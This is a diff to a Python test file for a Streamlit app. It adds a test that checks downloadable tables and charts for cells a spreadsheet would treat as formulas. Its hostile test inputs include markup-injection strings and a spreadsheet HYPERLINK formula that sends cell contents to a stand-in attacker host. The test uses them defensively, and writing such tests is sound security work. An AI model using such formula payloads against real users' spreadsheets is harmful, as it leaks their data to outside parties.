@@ -7,6 +7,8 @@ import re
 from collections.abc import Callable, Iterator
 from typing import Any
 
+import pandas as pd
+import pyarrow.ipc
 import pytest
 from google.protobuf.message import Message
 from streamlit.testing.v1 import AppTest
@@ -41,6 +43,7 @@ NAMES = (
     ":material/home: :red[b] $x$ `c` www.evil.example a@evil.example",
     "# h\n\n- i _em_ **s** ~~g~~ [x](http://evil.example)",
     "&lt;b&gt; turned\u202eback | https://evil.example",
+    '=HYPERLINK("http://evil.example/?" & A1, "Results")',
 )
 # What would be more than text where Markdown is shown, and where HTML is shown.
 MARKDOWN = ("![x]", "[x](", "<img", ":material/home", ":red[", "$x$", "`c`", "www.evil", "a@evil", "**s**", "~~g~~", "https://evil",
@@ -131,6 +134,46 @@ def test_a_page_shows_texts_of_runs_as_they_are(show: Show, page: str, query: di
     assert not app.exception
     assert len(list(shown(app._tree))) > 5
     assert more_than_text(app) == []
+
+
+@pytest.mark.usefixtures("hostile")
+@pytest.mark.parametrize("page", ["runs", "compare", "flow", "studies"])
+def test_no_table_and_no_chart_holds_what_a_spreadsheet_takes_for_a_formula(show: Show, page: str) -> None:
+    """Both can be copied and downloaded as CSV, by Streamlit's own bar above them."""
+    app = show(page, runs="quick-0005,quick-0001")
+    assert not app.exception
+    cells = [cell for table in tables_of(app._tree) for cell in cells_of(table)]
+    assert any("HYPERLINK" in cell for cell in cells), "this looks in the wrong place"
+    assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
+
+
+def tables_of(block: Any) -> Iterator[pd.DataFrame]:
+    """Every table that the page sends: those that it shows, and the rows of its charts."""
+    for child in block.children.values():
+        if isinstance(child, Block):
+            yield from tables_of(child)
+        proto = getattr(child, "proto", None)
+        if isinstance(proto, Message):
+            yield from (pyarrow.ipc.open_stream(data).read_pandas() for data in arrow(proto))
+
+
+def arrow(message: Message) -> Iterator[bytes]:
+    """What a message and those within it hold in Arrow's IPC format."""
+    for field, value in message.ListFields():
+        for one in value if field.is_repeated else [value]:
+            if isinstance(one, bytes) and one.startswith(b"\xff\xff\xff\xff"):
+                yield one
+            elif isinstance(one, Message):
+                yield from arrow(one)
+
+
+def cells_of(table: pd.DataFrame) -> Iterator[str]:
+    """The texts in it, the names of its columns and those in lists too."""
+    for values in ([*table.columns], *(table[name] for name in table)):
+        for value in values:
+            yield from (
+                part for part in (value if isinstance(value, list) else [value]) if isinstance(part, str)
+            )
 
 
 @pytest.mark.usefixtures("hostile")
